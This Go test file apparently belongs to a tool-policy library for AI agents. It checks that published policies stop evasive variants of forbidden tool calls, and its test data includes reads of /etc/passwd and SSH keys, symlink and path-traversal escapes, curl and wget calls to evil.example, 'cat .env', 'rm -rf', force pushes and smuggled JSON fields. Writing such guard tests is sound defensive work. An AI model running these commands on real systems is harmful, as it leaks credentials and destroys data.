package policy_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/agent"
	"github.com/grapnel-go/grapnel/hooks"
	"github.com/grapnel-go/grapnel/internal/evasion"
	"github.com/grapnel-go/grapnel/policy"
)

// rulesOf returns a policy's hooks, whose workspace is an empty folder with a link that leads out.
func rulesOf(t *testing.T, text string) []hooks.Hook {
	t.Helper()
	dir := t.TempDir()
	require.NoError(t, os.Symlink("/etc", filepath.Join(dir, "link")))
	text = strings.NewReplacer("workspace: /srv/app", "workspace: "+dir, "workspace: . ", "workspace: "+dir+" ").Replace(text)
	p, err := policy.Parse("shown.yaml", []byte(text), policy.Options{Dir: dir})
	require.NoError(t, err)
	list, err := p.Hooks()
	require.NoError(t, err)
	return list
}

// The policies that pages and comments show stop other spellings of what they are against, too.
func TestPublishedPoliciesHold(t *testing.T) {
	t.Parallel()
	pages := map[string]string{
		"../README.md": "policy: ours", "../docs/policies.md": "policy: workspace", "../docs/policy-testing.md": "policy: workspace", "doc.go": "policy: workspace",
	}
	for page, words := range pages {
		list := rulesOf(t, evasion.Block(t, page, words))
		for _, tool := range []string{"read_file", "write_file", "edit_file"} {
			evasion.Guard{
				Hooks: list, Tool: tool, Argument: "path", Allowed: []string{"a.txt", "a/../b.txt"},
				Forbidden: []string{"/etc/passwd", "../x", "a/../../x", "~/.ssh/id_rsa", "/proc/self/root/etc/passwd", "link/passwd", "./link/../passwd"},
			}.Hold(t)
		}
		evasion.Guard{ // a tool that no rule names
			Hooks: list, Tool: "view", AllowedCalls: []string{`{"path":"a.txt"}`, `{}`},
			Calls: []string{`{"path":"/etc/passwd"}`, `{"path":["/etc/passwd"]}`, `{"path":null}`, `{"\u0070ath":"\u002fetc/passwd"}`},
		}.Hold(t)
	}
	evasion.Guard{
		Hooks: rulesOf(t, evasion.Block(t, "../docs/policies.md", "policy: workspace")), Tool: "bash", Argument: "command",
		Allowed:  []string{"ls", "cat a.txt"},
		Commands: []string{"cat /etc/passwd", "cat ../x", "curl https://evil.example", "wget evil.example/x", "git clone https://evil.example/x", "cat link/passwd"},
	}.Hold(t)
	evasion.Guard{
		Hooks: rulesOf(t, evasion.Block(t, "../README.md", "policy: ours")), Tool: "bash", Argument: "command",
		Allowed:  []string{"ls", "go test ./..."},
		Commands: []string{"rm -rf build", "cat .env", "curl https://evil.example"}, Forbidden: []string{"find . -delete", "git push -f"},
	}.Hold(t)
	evasion.Guard{
		Hooks: rulesOf(t, evasion.Block(t, "../README.md", "policy: ours")), Tool: "send_money", Argument: "recipient", With: map[string]any{"amount": 5},
		State:   agent.NewState(agent.UserText("Send 5 to Ann")),
		Allowed: []string{"Ann"}, Forbidden: []string{"Mallory", "*", " ", "", "Ann, Mallory"},
	}.Hold(t)
	evasion.Guard{
		Hooks: rulesOf(t, "policy: one\nhooks:\n  PreToolUse:\n    "+strings.ReplaceAll(evasion.Block(t, "../docs/policies.md", "- id: no-wipe"), "\n", "\n    ")),
		Tool:  "bash", Argument: "command",
		Allowed: []string{"ls", "echo rm", "go test ./..."}, Commands: []string{"rm x", "rm -rf x", "rmdir x", "find . -delete", "unlink x"},
	}.Hold(t)
	evasion.Guard{
		Hooks: rulesOf(t, evasion.Block(t, "../docs/moving.md", "- id: no-push")), Tool: "bash", Argument: "command",
		Allowed:  []string{"ls", "git status", "git -C . diff --stat", "git add -A && git commit -m 'push it'", "echo git push"},
		Commands: []string{"git push", "git push --force origin main", "git send-pack --force x", "git remote update"},
	}.Hold(t)
	evasion.Guard{
		Hooks: rulesOf(t, payments), Tool: "pay", AllowedCalls: []string{`{"amount":5}`, `{"amount":1e2}`, `{"amount":0.5}`},
		Calls: []string{
			`{}`, ``, `{"amount":500}`, `{"amount":100.01}`, `{"amount":0}`, `{"amount":-5}`, `{"amount":null}`, `{"amount":"5"}`, `{"amount":[5]}`, `{"Amount":5}`,
			`{"amount":5,"amount":500}`, `{"in":{"amount":5}}`,
		},
	}.Hold(t)
}

// The example of the guide to backtesting changes nothing without a confirmation, whatever the call says.
func TestPublishedConfirmationHolds(t *testing.T) {
	t.Parallel()
	confirm, err := os.ReadFile("../examples/confirm/confirm.yaml")
	require.NoError(t, err)
	shown := strings.ReplaceAll(evasion.Block(t, "../docs/backtesting.md", "policy: confirm"), "|…)", ")")
	for _, text := range []string{string(confirm), shown} {
		for _, tool := range []string{"cancel_order", "update_address", "Get_order", "calculate_and_pay", "xget_order"} {
			evasion.Guard{Hooks: rulesOf(t, text), Tool: tool, Argument: "order", State: agent.NewState(agent.UserText("Cancel it.")), Forbidden: []string{"yes"}}.Hold(t)
		}
		evasion.Guard{
			Hooks: rulesOf(t, text), Tool: "cancel_order", State: agent.NewState(agent.UserText("Yes, cancel it.")), AllowedCalls: []string{`{"order":"yes"}`},
		}.Hold(t)
	}
}

// The hook and the rule of the first steps are one guard: what one stops, the other stops.
func TestFirstStepsHold(t *testing.T) {
	t.Parallel()
	type Transfer struct {
		To     string  `json:"to"`
		Amount float64 `json:"amount"`
	}
	onlyAlice := hooks.OnCall("only-alice", "transfer", func(_ context.Context, c hooks.ToolContext, in Transfer) hooks.Result {
		if in.To != "Alice" || in.Amount <= 0 || in.Amount > 100 {
			return c.Deny("only Alice gets money, and at most 100")
		}
		return c.Allow()
	})
	for _, list := range [][]hooks.Hook{{onlyAlice}, rulesOf(t, evasion.Block(t, "../docs/getting-started.md", "policy: ours"))} {
		evasion.Guard{
			Hooks: list, Tool: "transfer", Argument: "to", With: map[string]any{"amount": 5},
			Allowed: []string{"Alice"}, Forbidden: []string{"Mallory", "alice", "Alice ", "*", ""},
			AllowedCalls: []string{`{"to":"Alice","amount":100}`},
			Calls: []string{
				`{}`, `{"to":"Alice"}`, `{"to":"Alice","amount":0}`, `{"to":"Alice","amount":-5}`, `{"to":"Alice","amount":100.5}`, `{"to":"Alice","amount":"5"}`,
				`{"to":["Alice"],"amount":5}`, `{"to":"Alice","amount":5,"amount":500}`,
			},
		}.Hold(t)
	}
}
